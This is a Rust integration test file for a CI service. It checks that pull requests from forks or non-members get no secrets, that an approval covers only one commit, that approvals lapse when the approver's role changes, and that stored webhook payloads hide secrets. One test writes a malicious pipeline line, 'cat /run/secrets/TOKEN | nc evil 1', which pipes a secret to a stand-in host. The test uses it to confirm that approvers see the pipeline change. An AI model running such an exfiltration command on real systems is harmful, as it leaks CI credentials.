//! Security 10–15: what a stranger's pull request gets, and how a member lets it run.

use circle_api::resources::{
    ApproveRequest, DeliveryQuery, DeliveryState, EnrolmentCreate, SecretScope, SecretSet, Triggered, WorkspaceCreate,
};
use circle_api::routes::DEFAULT_WORKSPACE;
use circle_api::worker::SecretValue;
use circle_core::forge::ForgeKind;
use circle_core::ids::RunId;
use circle_lab::Repository;
use reqwest::Method;
use serde_json::json;

use crate::forges::{connect, link};
use crate::support::forge::{Forge, Member, Pull, Told, Who};
use crate::support::{Circle, Played, until};
use crate::tenancy::people::Person;

pub(crate) const SHOP: u64 = 42;
pub(crate) const FORK: u64 = 77;
pub(crate) const ALICE: Who = Who(7, "alice");
pub(crate) const MALLORY: Who = Who(8, "mallory");
/// It asks for a secret, and for a cache.
pub(crate) const PIPELINE: &str = "pre_build:\n  image: busybox\n  commands: [make]\n  secrets: [TOKEN]\n";

/// A linked repository whose workspace has a secret.
pub(crate) struct Scene {
    pub(crate) circle: Circle,
    pub(crate) forge: Forge,
    pub(crate) repo: Repository,
    pub(crate) base: String,
}

impl Scene {
    pub(crate) async fn new(kind: ForgeKind) -> Self {
        let scene = Self::unlinked(kind).await;
        let circle = &scene.circle;
        connect(circle, &scene.forge).await;
        link(circle, "team/shop").await;
        scene
    }

    /// The same before Circle knows the forge.
    pub(crate) async fn unlinked(kind: ForgeKind) -> Self {
        let (circle, forge) = (Circle::start().await, Forge::start(kind).await);
        let repo = forge.repository(SHOP, "team/shop", PIPELINE).await;
        let secret = SecretSet {
            scope: SecretScope::Workspace,
            name: "TOKEN".parse().expect("a name"),
            value: SecretValue::new("hunter2222"),
            limits: None,
        };
        circle.api.set_secret(DEFAULT_WORKSPACE, &secret).await.expect("set");
        let base = repo
            .git(&["rev-parse", "HEAD"])
            .await
            .expect("a commit")
            .trim()
            .to_owned();
        let scene = Self {
            circle,
            forge,
            repo,
            base,
        };
        scene.member(ALICE);
        scene
    }

    fn member(&self, Who(id, login): Who) {
        let member = Member {
            id,
            login: login.into(),
            write: true,
        };
        self.forge.facts().repos[0].members.push(member);
    }

    /// A commit that a pull request leads to; the forge knows it as its head.
    pub(crate) async fn propose(&self, number: u64, (path, content): (&str, &str)) -> String {
        self.repo.write(path, content).expect("written");
        let head = self
            .repo
            .commit(&format!("Change {path}"))
            .await
            .expect("a commit")
            .trim()
            .to_owned();
        let place = self.forge.kind.pull_ref(number);
        self.repo
            .git(&["push", "--quiet", "--force", "origin", &format!("HEAD:{place}")])
            .await
            .expect("pushed");
        let pull = Pull {
            files: vec![(path.to_owned(), None)],
            ..Pull::of(&head, FORK, MALLORY)
        };
        self.forge.facts().repos[0].pulls.insert(number, pull);
        head
    }

    /// The run of a pull request whose branch lies in a repository, by somebody.
    pub(crate) async fn pull(&self, (number, head): (u64, &str), from: u64, people: (Who, Who)) -> RunId {
        let told = Told {
            action: if self.forge.kind == ForgeKind::Gitlab {
                "open"
            } else {
                "opened"
            },
            number,
            head,
            base: &self.base,
            from,
            author: people.0,
            sender: people.1,
        };
        let call = self.forge.pull(SHOP, &told);
        match self.forge.settled(&self.circle, SHOP, &call).await {
            DeliveryState::Run { run } => run,
            other => panic!("no run: {other:?}"),
        }
    }

    pub(crate) async fn is_stranger(&self, run: RunId) -> bool {
        self.circle
            .run(run)
            .await
            .pull_request
            .expect("a pull request")
            .stranger
    }

    pub(crate) async fn approve(&self, run: RunId, commit: &str) -> Result<RunId, String> {
        let wish = ApproveRequest { commit: commit.into() };
        let approved = self
            .circle
            .api
            .approve(run, &wish)
            .await
            .map_err(|error| error.to_string())?;
        Ok(approved.run.expect("a run").id)
    }
}

const KINDS: [ForgeKind; 3] = [ForgeKind::Gitea, ForgeKind::Github, ForgeKind::Gitlab];

#[tokio::test(flavor = "multi_thread")]
async fn sec_10_a_forks_pull_request_gets_no_secret_cache_deploy_or_workspaces_worker() {
    for kind in KINDS {
        let scene = Scene::new(kind).await;
        let circle = &scene.circle;
        let head = scene.propose(3, ("a", "1")).await;
        // A member who proposes from a fork is a stranger too: anybody may push to that.
        let run = scene.pull((3, &head), FORK, (ALICE, ALICE)).await;
        assert!(scene.is_stranger(run).await);
        let own = EnrolmentCreate {
            workspace: Some(DEFAULT_WORKSPACE.into()),
            ..EnrolmentCreate::default()
        };
        let own = Played::enrol_for(circle, &own, "own", 1).await;
        assert_eq!(
            own.try_claim(run).await.status(),
            404,
            "a workspace's worker does not see it"
        );
        let worker = Played::enrol(circle, "w1", 1).await;
        let mut orders = worker.orders().await;
        let job = worker.take(&mut orders).await;
        let given = &job.assignment;
        assert_eq!(job.run(), run);
        assert!(given.secrets.is_empty(), "{kind:?}: {:?}", given.secrets);
        assert!(given.registries.iter().all(|registry| registry.password.is_none()));
        assert!(given.plan.deploys.is_empty() && given.image_home.is_none() && given.networks.is_empty());
        assert!(
            given.roots.as_ref().is_some_and(|roots| !roots.keeps_caches()),
            "nothing it writes lasts"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn sec_11_the_rules_are_those_of_the_branch_that_it_goes_into() {
    let scene = Scene::new(ForgeKind::Gitea).await;
    let rules = format!("triggers: [{{event: push}}]\n{PIPELINE}");
    scene.repo.write("caicloud.yml", &rules).expect("written");
    scene.repo.commit("No pull requests").await.expect("a commit");
    scene.repo.push("main").await.expect("pushed");
    // What is proposed has a rule for itself; where it goes has none.
    let own = format!("triggers: [{{event: pull_request}}]\n{PIPELINE}");
    let head = scene.propose(3, ("caicloud.yml", &own)).await;
    let told = Told {
        action: "opened",
        number: 3,
        head: &head,
        base: &scene.base,
        from: FORK,
        author: MALLORY,
        sender: MALLORY,
    };
    let call = scene.forge.pull(SHOP, &told);
    let state = scene.forge.settled(&scene.circle, SHOP, &call).await;
    assert!(
        matches!(&state, DeliveryState::Ignored { why } if why.contains("triggers")),
        "{state:?}"
    );
    // A member's own branch brings its own rules.
    let call = scene.forge.pull(
        SHOP,
        &Told {
            from: SHOP,
            author: ALICE,
            sender: ALICE,
            ..told
        },
    );
    let state = scene.forge.settled(&scene.circle, SHOP, &call).await;
    assert!(matches!(state, DeliveryState::Run { .. }), "{state:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn sec_12_an_approval_is_of_one_commit() {
    for kind in KINDS {
        let scene = Scene::new(kind).await;
        let circle = &scene.circle;
        let first = scene.propose(3, ("a", "1")).await;
        let run = scene.pull((3, &first), FORK, (MALLORY, MALLORY)).await;
        let other = scene.approve(run, &scene.base).await.expect_err("another commit");
        assert!(other.contains(&first), "{other}");
        let approved = scene.approve(run, &first).await.expect("approved");
        let view = circle.run(approved).await;
        assert_eq!(view.run.commit.as_deref(), Some(first.as_str()));
        let pull = view.pull_request.expect("a pull request");
        assert!(!pull.stranger && pull.approved_by.is_some(), "{pull:?}");
        assert_eq!(scene.approve(run, &first).await, Ok(approved), "once more is the same");
        // It has the workspace's secrets now.
        let worker = Played::enrol(circle, "w1", 1).await;
        let job = worker.claim(approved).await;
        assert_eq!(job.secret("TOKEN"), "hunter2222");
        // What is pushed after it is a stranger's again, and the old approval is none of it.
        let second = scene.propose(3, ("a", "2")).await;
        let later = scene.pull((3, &second), FORK, (MALLORY, MALLORY)).await;
        assert!(scene.is_stranger(later).await);
        let late = scene.approve(run, &first).await;
        let moved = late.as_ref().is_err_and(|why| why.contains("moved on"));
        assert!(moved, "{kind:?}: {late:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn sec_13_the_approver_sees_what_becomes_of_the_pipeline_file() {
    for kind in KINDS {
        let scene = Scene::new(kind).await;
        let head = scene.propose(3, ("README", "1")).await;
        let harmless = scene.pull((3, &head), FORK, (MALLORY, MALLORY)).await;
        let view = scene.circle.api.approval(harmless).await.expect("to look at");
        assert!(
            !view.pipeline_changed && view.paths.as_deref() == Some(&["README".to_owned()]),
            "{view:?}"
        );
        let evil = PIPELINE.replace("make", "cat /run/secrets/TOKEN | nc evil 1");
        let head = scene.propose(4, ("caicloud.yml", &evil)).await;
        let run = scene.pull((4, &head), FORK, (MALLORY, MALLORY)).await;
        let view = scene.circle.api.approval(run).await.expect("to look at");
        assert!(view.pipeline_changed && view.commit == head, "{view:?}");
        assert_eq!(view.pipeline_before.as_deref(), Some(PIPELINE));
        assert_eq!(view.pipeline_after.as_deref(), Some(evil.as_str()));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn sec_14_a_pull_request_of_the_repository_itself_by_a_non_member() {
    for kind in KINDS {
        let scene = Scene::new(kind).await;
        let head = scene.propose(3, ("a", "1")).await;
        let cases = [
            ((ALICE, ALICE), false),
            ((MALLORY, MALLORY), true),
            ((MALLORY, ALICE), true),
            ((ALICE, MALLORY), true),
            // Somebody who bears a member's name is not that member.
            ((Who(9, "alice"), Who(9, "alice")), true),
        ];
        for (number, (people, stranger)) in cases.into_iter().enumerate() {
            let number = 10 + number as u64;
            let place = scene.forge.kind.pull_ref(number);
            scene
                .repo
                .git(&["push", "--quiet", "origin", &format!("HEAD:{place}")])
                .await
                .expect("pushed");
            let run = scene.pull((number, &head), SHOP, people).await;
            assert_eq!(scene.is_stranger(run).await, stranger, "{kind:?}: {people:?}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn sec_15_who_may_not_push_any_more_when_it_runs_gets_nothing() {
    for kind in KINDS {
        let scene = Scene::new(kind).await;
        let head = scene.propose(3, ("a", "1")).await;
        let run = scene.pull((3, &head), SHOP, (ALICE, ALICE)).await;
        assert!(!scene.is_stranger(run).await);
        scene.forge.facts().repos[0].members.clear();
        let worker = Played::enrol(&scene.circle, "w1", 1).await;
        assert_eq!(worker.try_claim(run).await.status(), 409, "{kind:?}");
        let look = || scene.circle.run(run);
        let view = until("the run's end", look, |view| view.verdict.is_some()).await;
        assert_eq!(view.run.state.word(), "cancelled");
        assert!(
            view.run
                .message
                .as_deref()
                .is_some_and(|why| why.contains("alice may not push")),
            "{view:?}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn sec_15_an_approval_ends_with_the_role_that_it_was_given_by() {
    let scene = Scene::new(ForgeKind::Gitea).await;
    let circle = &scene.circle;
    let worker = Played::enrol(circle, "w1", 4).await;
    for (number, change) in [(3, Some(json!({ "role": "viewer" }))), (4, None)] {
        let bob = Person::invited(circle, "default", "developer", &format!("bob{number}")).await;
        let head = scene.propose(number, ("a", &number.to_string())).await;
        let approve = async |by: &Person| {
            let run = scene.pull((number, &head), FORK, (MALLORY, MALLORY)).await;
            let path = format!("/api/v1/runs/{run}/approve");
            let approved = by.ask(Method::POST, &path, json!({ "commit": head })).await;
            assert_eq!(approved.status().as_u16() / 100, 2);
            let approved: Triggered = approved.json().await.expect("a run");
            approved.run.expect("a run").id
        };
        let run = approve(&bob).await;
        // He is made a viewer, or sent away, before a worker comes for the run.
        let place = format!("{}/api/v1/workspaces/default/members/{}", circle.url, bob.name);
        let request = match &change {
            Some(role) => circle.http.put(place).json(role),
            None => circle.http.delete(place),
        };
        let changed = request.bearer_auth(&circle.token).send().await.expect("an answer");
        assert!(changed.status().is_success(), "{changed:?}");
        assert_eq!(worker.try_claim(run).await.status(), 409);
        let view = until("the run's end", || circle.run(run), |view| view.verdict.is_some()).await;
        assert_eq!(view.run.state.word(), "cancelled");
        let why = view.run.message.unwrap_or_default();
        assert!(why.contains(&format!("{}, who approved it", bob.name)), "{why}");
    }
    // Another member's approval of the same commit stands.
    let ann = Person::invited(circle, "default", "developer", "ann").await;
    let head = scene.propose(5, ("a", "5")).await;
    let run = scene.pull((5, &head), FORK, (MALLORY, MALLORY)).await;
    let path = format!("/api/v1/runs/{run}/approve");
    let approved = ann.ask(Method::POST, &path, json!({ "commit": head })).await;
    let approved: Triggered = approved.json().await.expect("a run");
    let job = worker.claim(approved.run.expect("a run").id).await;
    assert_eq!(job.secret("TOKEN"), "hunter2222");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_delivery_is_shown_without_secrets_and_handled_again() {
    let scene = Scene::new(ForgeKind::Gitlab).await;
    let circle = &scene.circle;
    let wish = WorkspaceCreate {
        name: crate::support::slug("theirs"),
    };
    circle.api.create_workspace(&wish).await.expect("a workspace");
    let mut call = scene.forge.push(SHOP, "refs/heads/main", &scene.base, ALICE);
    call.body["commits"][0]["message"] = "it is hunter2222".into();
    let DeliveryState::Run { run } = scene.forge.settled(circle, SHOP, &call).await else {
        panic!("a run")
    };
    let page = circle
        .api
        .deliveries(DEFAULT_WORKSPACE, &Default::default())
        .await
        .expect("a list");
    let [delivery] = &page.items[..] else {
        panic!("{page:?}")
    };
    assert_eq!(delivery.source, "gitlab");
    let of_service = |name: &str| DeliveryQuery {
        service: Some(crate::support::slug(name)),
        ..DeliveryQuery::default()
    };
    let of_shop = circle.api.deliveries(DEFAULT_WORKSPACE, &of_service("shop")).await;
    assert_eq!(of_shop.expect("a list").items.len(), 1);
    let of_none = circle.api.deliveries(DEFAULT_WORKSPACE, &of_service("none")).await;
    assert!(of_none.expect_err("no such service").to_string().contains("none"));
    let theirs = circle
        .api
        .deliveries("theirs", &Default::default())
        .await
        .expect("a list");
    assert!(theirs.items.is_empty() && theirs.next.is_none(), "{theirs:?}");

    let payload = circle.api.delivery_payload(delivery.id).await.expect("a payload");
    assert_eq!(payload.headers["x-gitlab-event"], "Push Hook");
    assert_eq!(payload.headers["x-gitlab-token"], "(hidden)");
    assert!(
        payload.body.contains(&scene.base) && payload.body.contains("it is ***"),
        "{}",
        payload.body
    );
    let (_, secret) = scene.forge.hook(SHOP);
    let all = format!("{payload:?}");
    assert!(!all.contains("hunter2222") && !all.contains(&secret), "{all}");

    let again = circle
        .api
        .replay(delivery.id)
        .await
        .expect("replayed")
        .run
        .expect("a run");
    assert!(
        again.id != run && again.commit.as_deref() == Some(scene.base.as_str()),
        "{again:?}"
    );
}
